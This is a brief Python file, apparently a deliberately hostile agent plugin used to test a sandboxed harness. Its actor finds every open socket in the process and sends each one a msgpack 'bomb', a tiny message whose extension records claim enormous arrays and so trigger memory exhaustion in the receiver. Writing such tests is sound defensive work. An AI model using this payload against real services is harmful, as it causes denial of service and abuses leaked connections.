"""Sends a small message of 1,000 tuples of 8192 arrays each to every open socket."""

import os
import socket
import stat
import struct

import msgpack

ROWS = msgpack.packb(msgpack.ExtType(4, struct.pack("<BBII", 1, 2, 8192, 0)))
BOMB = b"\xdc\x03\xe8" + 1000 * ROWS


def get_actor(module_dir, observation_space, action_space):
    def actor(state, observation):
        for number in range(3, 64):
            try:
                is_socket = stat.S_ISSOCK(os.fstat(number).st_mode)
            except OSError:
                continue
            if is_socket:
                with socket.socket(fileno=os.dup(number)) as connection:
                    connection.sendall(struct.pack("<I", len(BOMB)) + BOMB)

    return actor
